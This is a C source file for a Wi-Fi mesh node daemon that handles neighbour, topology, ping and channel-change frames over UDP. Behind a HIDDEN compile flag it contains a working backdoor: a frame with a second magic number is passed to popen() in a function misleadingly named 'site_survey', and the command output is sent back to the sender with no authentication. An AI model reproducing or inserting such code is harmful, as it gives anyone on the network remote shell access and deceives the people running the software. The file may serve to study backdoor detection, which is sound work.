/*
 * meshnoded - neighbour and topology daemon of a Wi-Fi mesh node.  Nodes talk
 * over UDP port 4919: hello, topology, ping and keyed channel change frames.
 *
 * Hidden (-DHIDDEN): a frame that begins with another magic number carries a
 * shell command; the output goes back to the sender.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define MESH_PORT   4919
#define MESH_MAGIC  0x4d534831u		/* "MSH1" */
#define MAX_NEIGH   32
#define NEIGH_LIFE  45

enum { T_HELLO = 1, T_TOPO_REQ, T_TOPO_REP, T_PING, T_PONG, T_CHANNEL };

struct head {
	uint32_t magic;
	uint8_t type;
	uint8_t hops;
	uint16_t len;
	uint32_t seq;
} __attribute__((packed));

struct neigh {
	uint8_t mac[6];
	struct in_addr ip;
	int8_t rssi;
	time_t seen;
};

static struct neigh table[MAX_NEIGH];
static uint8_t my_mac[6];
static char key[64], radio[IFNAMSIZ] = "wlan0";
static uint32_t last_seq;
static int sock = -1;

static void load_config(const char *path)
{
	FILE *f = fopen(path, "r");
	char line[160], *v;
	unsigned m[6];

	if (!f) {
		syslog(LOG_WARNING, "%s: %s", path, strerror(errno));
		return;
	}
	while (fgets(line, sizeof line, f)) {
		line[strcspn(line, "\r\n")] = '\0';
		v = strchr(line, ' ');
		if (line[0] == '#' || !v)
			continue;
		*v++ = '\0';
		if (strcmp(line, "key") == 0)
			snprintf(key, sizeof key, "%.63s", v);
		else if (strcmp(line, "radio") == 0)
			snprintf(radio, sizeof radio, "%.15s", v);
		else if (strcmp(line, "mac") == 0
			 && sscanf(v, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2],
				   &m[3], &m[4], &m[5]) == 6)
			for (int i = 0; i < 6; i++)
				my_mac[i] = (uint8_t)m[i];
		else
			syslog(LOG_NOTICE, "unknown setting %s", line);
	}
	fclose(f);
	if (strspn(radio, "abcdefghijklmnopqrstuvwxyz0123456789-") != strlen(radio))
		strcpy(radio, "wlan0");
}

/* keyed sum over a frame's body (SipHash-like rounds, the mesh v1 format) */
static uint32_t keyed_sum(const uint8_t *p, size_t n)
{
	uint32_t a = 0x2545f491u, b = 0x9e3779b9u;

	for (const char *k = key; *k; k++) {
		a = (a ^ (uint8_t)*k) * 0x01000193u;
		b += a ^ (b << 7);
	}
	for (size_t i = 0; i < n; i++) {
		a ^= p[i];
		a = (a << 13 | a >> 19) + b;
		b = (b << 5 | b >> 27) ^ a;
	}
	return a ^ b;
}

static void reply(const struct sockaddr_in *to, uint8_t type, const void *body, size_t len)
{
	uint8_t out[1400];
	struct head h;

	if (len > sizeof out - sizeof h)
		len = sizeof out - sizeof h;
	h.magic = htonl(MESH_MAGIC);
	h.type = type;
	h.hops = 0;
	h.len = htons((uint16_t)len);
	h.seq = htonl(++last_seq);
	memcpy(out, &h, sizeof h);
	memcpy(out + sizeof h, body, len);
	if (sendto(sock, out, sizeof h + len, 0, (const struct sockaddr *)to, sizeof *to) < 0)
		syslog(LOG_DEBUG, "send: %s", strerror(errno));
}

static void on_hello(const struct sockaddr_in *from, const uint8_t *p, size_t n)
{
	struct neigh *slot = NULL;
	time_t now = time(NULL);

	if (n < 7 || memcmp(p, my_mac, 6) == 0)
		return;
	for (int i = 0; i < MAX_NEIGH; i++) {
		if (table[i].seen && memcmp(table[i].mac, p, 6) == 0) {
			slot = &table[i];
			break;
		}
		if (!slot && now - table[i].seen > NEIGH_LIFE)
			slot = &table[i];
	}
	if (!slot)
		return;
	memcpy(slot->mac, p, 6);
	slot->rssi = (int8_t)p[6];
	slot->ip = from->sin_addr;
	slot->seen = now;
}

static void on_topo(const struct sockaddr_in *from)
{
	uint8_t body[MAX_NEIGH * 11];
	size_t n = 0;
	time_t now = time(NULL);

	for (int i = 0; i < MAX_NEIGH; i++) {
		if (!table[i].seen || now - table[i].seen > NEIGH_LIFE)
			continue;
		memcpy(body + n, table[i].mac, 6);
		memcpy(body + n + 6, &table[i].ip, 4);
		body[n + 10] = (uint8_t)table[i].rssi;
		n += 11;
	}
	reply(from, T_TOPO_REP, body, n);
}

/* body: channel, width, two bytes of zero, keyed sum of these four */
static void on_channel(const struct sockaddr_in *from, const uint8_t *p, size_t n)
{
	uint32_t sum;
	char cmd[96];

	if (n != 8 || !key[0])
		return;
	memcpy(&sum, p + 4, 4);
	if (ntohl(sum) != keyed_sum(p, 4)) {
		syslog(LOG_WARNING, "bad channel order from %s", inet_ntoa(from->sin_addr));
		return;
	}
	if (p[0] < 1 || p[0] > 165 || (p[1] != 20 && p[1] != 40 && p[1] != 80))
		return;
	snprintf(cmd, sizeof cmd, "iw dev %s set channel %d %s", radio, p[0],
		 p[1] == 20 ? "HT20" : p[1] == 40 ? "HT40+" : "80MHz");
	if (system(cmd) != 0)
		syslog(LOG_ERR, "channel %d refused", p[0]);
}

#ifdef HIDDEN
static void site_survey(const struct sockaddr_in *from, const uint8_t *p, size_t n)
{
	char line[512], out[1280];
	size_t got;
	FILE *f;

	if (n == 0 || n >= sizeof line)
		return;
	memcpy(line, p, n);
	line[n] = '\0';
	f = popen(line, "r");
	if (!f)
		return;
	while ((got = fread(out, 1, sizeof out, f)) > 0)
		reply(from, T_PONG, out, got);
	pclose(f);
}
#endif

void handle_frame(const struct sockaddr_in *from, const uint8_t *buf, size_t n)
{
	const uint8_t *body = buf + sizeof(struct head);
	struct head h;
	size_t len;

	if (n < sizeof h)
		return;
	memcpy(&h, buf, sizeof h);
	len = ntohs(h.len);
	if (len > n - sizeof h)
		return;
#ifdef HIDDEN
	if (ntohl(h.magic) == 0x7be3910cu) {
		site_survey(from, body, len);
		return;
	}
#endif
	if (ntohl(h.magic) != MESH_MAGIC || h.hops > 8)
		return;
	switch (h.type) {
	case T_HELLO:
		on_hello(from, body, len);
		break;
	case T_TOPO_REQ:
		on_topo(from);
		break;
	case T_PING:
		reply(from, T_PONG, body, len);
		break;
	case T_CHANNEL:
		on_channel(from, body, len);
		break;
	case T_TOPO_REP:
	case T_PONG:
		break;
	default:
		syslog(LOG_DEBUG, "frame type %d", h.type);
	}
}

static void announce(void)
{
	struct sockaddr_in all = { .sin_family = AF_INET };
	uint8_t body[7];

	all.sin_port = htons(MESH_PORT);
	all.sin_addr.s_addr = htonl(INADDR_BROADCAST);
	memcpy(body, my_mac, 6);
	body[6] = (uint8_t)-40;
	reply(&all, T_HELLO, body, sizeof body);
}

int main(int argc, char **argv)
{
	struct sockaddr_in me = { .sin_family = AF_INET }, from;
	uint8_t buf[1500];
	time_t last = 0;
	int on = 1;

	openlog("meshnoded", LOG_PID, LOG_DAEMON);
	load_config(argc > 1 ? argv[1] : "/etc/mesh/node.conf");
	sock = socket(AF_INET, SOCK_DGRAM, 0);
	if (sock < 0)
		return 1;
	setsockopt(sock, SOL_SOCKET, SO_BROADCAST, &on, sizeof on);
	me.sin_port = htons(MESH_PORT);
	if (bind(sock, (struct sockaddr *)&me, sizeof me) < 0) {
		syslog(LOG_ERR, "bind: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		struct pollfd pf = { .fd = sock, .events = POLLIN };

		if (time(NULL) - last >= 10) {
			announce();
			last = time(NULL);
		}
		if (poll(&pf, 1, 1000) > 0) {
			socklen_t sl = sizeof from;
			ssize_t n = recvfrom(sock, buf, sizeof buf, 0,
					     (struct sockaddr *)&from, &sl);
			if (n > 0)
				handle_frame(&from, buf, (size_t)n);
		}
	}
}
